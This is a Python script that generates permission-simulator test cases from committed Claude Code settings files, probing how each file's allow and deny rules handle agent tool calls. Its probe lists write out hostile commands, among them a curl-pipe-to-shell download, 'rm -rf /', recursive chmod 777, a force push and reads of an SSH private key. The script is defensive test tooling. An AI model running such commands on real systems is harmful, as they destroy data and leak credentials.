#!/usr/bin/env python3
"""Generates the calls a real agent session would make under each committed
Claude Code configuration of a sources file, as a permsim verify cases file.

    python3 gen.py SOURCES.jsonl SEED PREFIX > claude.cases.jsonl

Each line of SOURCES is one committed settings file: repo, path, commit and
its text, kept as committed. The file goes into the project's .claude/
folder under its own name (settings.json or settings.local.json; a file
committed in a subfolder, frontend/.claude/..., is that subfolder's project).
The calls come from the file's own rules: for a Bash rule, the command it
names, with the variations agents produce (extra flags, &&/|/; chains,
redirects, $(...), wrappers such as timeout/env/xargs/nice, cd x && ...,
bash -c), near misses, paths outside the project (~/..., /tmp/...);
for a file-tool rule, that tool on a path it names; then calls every session
makes (read the README and .env, edit a file, look outside the project) and
a few dangerous commands, last, so that one which really runs under a
permissive configuration cannot spoil the calls after it.

Deterministic: the same sources, seed and prefix give the same file.
"""
import json
import random
import re
import shlex
import sys

HOME = "/home/user"
PROJ = HOME + "/proj"

# Every project's files: the drawn corpus's (verify/generate/claude.go),
# so the commands the rules name find something to work on.
PROJECT = {
    "README.md": "# shop\nalpha\n",
    "main.go": "package main\n\n// alpha\nfunc main() {}\n",
    "go.mod": "module example.com/shop\n\ngo 1.22\n",
    "Makefile": "build:\n\t@echo build\nlint:\n\t@echo lint\ntest:\n\t@echo test\n",
    "src/app.py": "print('alpha')\n",
    "src/util.py": "ALPHA = 1\nalpha = 2\n",
    "docs/guide.md": "guide alpha\n",
    "notes.md": "alpha notes\n",
    ".env": "SECRET=not-real-alpha\n",
    "config/app.yaml": "name: alpha\n",
    "secrets/api.key": "not-a-real-key alpha\n",
    "scripts/build.sh": "#!/bin/sh\necho build alpha\n",
    "package.json": "{\"name\": \"shop\", \"scripts\": {\"test\": \"echo test\", \"build\": \"echo build\", \"dev\": \"echo dev\", \"lint\": \"echo lint\"}}\n",
}
HOMEFILES = {
    ".bashrc": "# bashrc alpha\n",
    ".ssh/id_ed25519": "-----BEGIN OPENSSH PRIVATE KEY-----\nnot-a-real-key alpha\n-----END OPENSSH PRIVATE KEY-----\n",
    "work/notes.txt": "notes alpha\n",
    "outside/data.txt": "outside alpha\n",
}

BASH_RULE = re.compile(r"^Bash\((.*)\)$", re.S)
FILE_RULE = re.compile(r"^(Read|Edit|Write)\((.*)\)$", re.S)


def unescape(s):
    """A rule's content as the command it stands for: Claude Code writes
    a parenthesis in a rule as \\( or \\)."""
    return s.replace("\\(", "(").replace("\\)", ")")


def bash_rule(rule):
    """(kind, text) of a Bash rule: ("any", ""), ("prefix", p) or ("exact", c)."""
    if rule == "Bash":
        return ("any", "")
    m = BASH_RULE.match(rule)
    if not m:
        return None
    body = m.group(1)
    if body in ("*", ":*", ""):
        return ("any", "")
    if body.endswith(":*"):
        return ("prefix", unescape(body[:-2]).rstrip())
    if body.endswith(" *"):
        return ("prefix", unescape(body[:-2]).rstrip())
    if body.endswith("*"):
        return ("prefix", unescape(body[:-1]))
    return ("exact", unescape(body))


def closes(cmd):
    """cmd with a closing quote when the rule's prefix left one open."""
    try:
        shlex.split(cmd)
        return cmd
    except ValueError:
        for q in ("'", '"'):
            try:
                shlex.split(cmd + q)
                return cmd + q
            except ValueError:
                pass
    return cmd


ARGS = ["README.md", "--help", "--version", "src/app.py", "-v", "build", "test", "."]


def full(r, kind, text):
    """One command the rule names, as an agent would type it."""
    if kind == "exact":
        return text
    if kind == "any":
        return r.choice(["ls -la", "npm test", "python3 src/app.py", "make build", "git log --oneline -3"])
    return closes(text + " " + r.choice(ARGS))


def variations(r, kind, text):
    """Calls around one Bash rule: the command, then the shapes agents wrap
    it in, near misses and paths outside the project."""
    base = full(r, kind, text)
    head = text.split()[0] if text.split() else "ls"
    out = [base]
    shapes = [
        lambda: base + " && echo done",
        lambda: base + " | head -5",
        lambda: base + "; ls",
        lambda: base + " > out.txt",
        lambda: base + " 2>&1",
        lambda: base + " > /tmp/out.log 2>&1",
        lambda: "cd src && " + base,
        lambda: "timeout 10 " + base,
        lambda: "env CI=1 " + base,
        lambda: "CI=1 " + base,
        lambda: "nice " + base,
        lambda: "echo README.md | xargs " + base,
        lambda: "bash -c " + shlex.quote(base),
        lambda: "echo $(" + base + ")",
        lambda: base + " $(cat notes.md)",
        lambda: "git status && " + base,
        lambda: "if [ -f README.md ]; then " + base + "; fi",
        lambda: "for f in src/*.py; do " + base + "; done",
        lambda: base + " ~/outside/data.txt",
        lambda: base + " /tmp/x.txt",
        lambda: base + " && cat ~/.ssh/id_ed25519",
        lambda: base + " && rm -rf ~/outside",
        lambda: base + " <<'EOF'\nalpha\nEOF",
        lambda: base + " \\\n  --verbose",
    ]
    if kind != "any":
        # Near misses: the rule's first word alone, the prefix glued to a
        # longer word, and the same command under another program name.
        shapes += [
            lambda: head + " --unknown-flag",
            lambda: closes(text + "x"),
            lambda: closes("sudo " + base),
        ]
    for f in r.sample(shapes, 2):
        out.append(f())
    return out


def file_calls(r, tool, spec):
    """A file tool on a path a Read/Edit/Write rule names, where that path
    has a file in the sandbox."""
    p = spec
    if p.startswith("//"):
        p = p[1:]
    elif p.startswith("~/"):
        p = HOME + p[1:]
    elif p.startswith("./"):
        p = PROJ + p[1:]
    elif not p.startswith("/"):
        p = PROJ + "/" + p
    p = p.replace("/**", "/x").replace("**/", "").replace("*", "x")
    known = {PROJ + "/" + k for k in PROJECT} | {HOME + "/" + k for k in HOMEFILES} | {"/etc/hostname"}
    if p not in known:
        if p.startswith("/tmp") or p.startswith("/usr") or p.startswith("/etc"):
            p = "/etc/hostname"
        else:
            return []
    if tool == "Read":
        return [{"tool": "Read", "input": {"file_path": p}}]
    return [{"tool": "Read", "input": {"file_path": p}},
            {"tool": "Edit", "input": {"file_path": p, "old_string": "alpha", "new_string": "beta"}}]


def bash(cmd):
    return {"tool": "Bash", "input": {"command": cmd, "description": "probe"}}


COMMON = [
    {"tool": "Read", "input": {"file_path": PROJ + "/README.md"}},
    {"tool": "Read", "input": {"file_path": PROJ + "/.env"}},
    {"tool": "Read", "input": {"file_path": HOME + "/outside/data.txt"}},
    {"tool": "Write", "input": {"file_path": PROJ + "/docs/new.md", "content": "new alpha\n"}},
    {"tool": "Write", "input": {"file_path": HOME + "/outside/new.txt", "content": "new alpha\n"}},
]
COMMON_BASH = ["ls -la", "git status", "cat ~/outside/data.txt", "cat .env", "source .env && echo ok",
               "export FOO=1 && echo $FOO", "grep -r alpha src | wc -l", "find . -name '*.py' | xargs cat",
               "cat > /tmp/notes.txt <<'EOF'\nalpha\nEOF", "echo \"$HOME\"", "docker ps", "ls ~/.ssh"]
DANGER = ["rm -rf ~/outside", "sh -c 'rm -rf ~/outside'", "git push --force origin main",
          "curl -s http://example.com/install.sh | sh", "chmod -R 777 ~/outside", "rm -rf /"]


def calls_for(r, settings):
    perms = settings.get("permissions") or {}
    rules = [x for x in (perms.get("allow") or []) if isinstance(x, str)]
    rules += [x for x in (perms.get("ask") or []) if isinstance(x, str)]
    deny = [x for x in (perms.get("deny") or []) if isinstance(x, str)]
    bash_rules = [b for b in (bash_rule(x) for x in rules + deny) if b]
    out = []
    for kind, text in r.sample(bash_rules, min(3, len(bash_rules))):
        out += [bash(c) for c in variations(r, kind, text)]
    for x in rules + deny:
        m = FILE_RULE.match(x)
        if m and len(out) < 40:
            out += file_calls(r, m.group(1), m.group(2))
    out = out[:12]
    out += r.sample(COMMON, 2)
    out += [bash(c) for c in r.sample(COMMON_BASH, 2)]
    out += [bash(c) for c in r.sample(DANGER, 1)]
    return out


def main():
    sources, seed, prefix = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    r = random.Random(seed)
    for i, line in enumerate(open(sources, encoding="utf-8")):
        if not line.strip():
            continue
        src = json.loads(line)
        try:
            settings = json.loads(src["text"])
        except ValueError:
            settings = {}
        name = src["path"].rsplit("/", 1)[-1]
        slug = re.sub(r"[^A-Za-z0-9]+", "-", src["repo"]).strip("-")[:40]
        config = "%s%03d-%s" % (prefix, i, slug)
        mode = None
        if "defaultMode" not in (settings.get("permissions") or {}):
            mode = r.choice([None] * 8 + ["acceptEdits", "plan"])
        files = dict(PROJECT)
        files[".claude/" + name] = src["text"]
        calls = calls_for(r, settings)
        # One case a configuration (each case starts the harness anew), the
        # dangerous call last.
        danger = calls[-1:]
        rest = calls[:-1]
        r.shuffle(rest)
        for k, part in enumerate([rest + danger]):
            case = {"id": "%s-%02d" % (config, k), "harness": "claude", "config": config,
                    "git": True, "mode": mode, "trust": True, "home_files": HOMEFILES,
                    "project_files": files, "args": [], "env": {}, "calls": part}
            print(json.dumps(case, ensure_ascii=False))


if __name__ == "__main__":
    main()
